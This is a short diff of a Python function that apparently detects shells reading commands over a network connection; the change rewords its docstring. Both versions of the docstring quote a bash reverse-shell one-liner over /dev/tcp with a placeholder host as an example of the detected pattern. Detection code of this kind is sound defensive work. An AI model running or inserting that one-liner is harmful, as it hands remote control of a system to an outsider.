@@ -332,8 +332,8 @@ def _with_a_connection_of_its_own(
 ) -> Sign | None:
     """Return what a shell is that has a connection which nothing but shells has: it can read commands from that.
 
-    "exec 5<>/dev/tcp/HOST/PORT; while read line <&5; do eval $line >&5; done". What is left open by a program that
-    starts a shell is that program's as well, and what the shell has started has the shell's.
+    "exec 5<>/dev/tcp/HOST/PORT; while read line <&5; do eval $line >&5; done". A program that starts a shell shares
+    what it left open, and the shell shares its own with what it has started.
     """
     if not programs.is_shell(spoken):
         return None
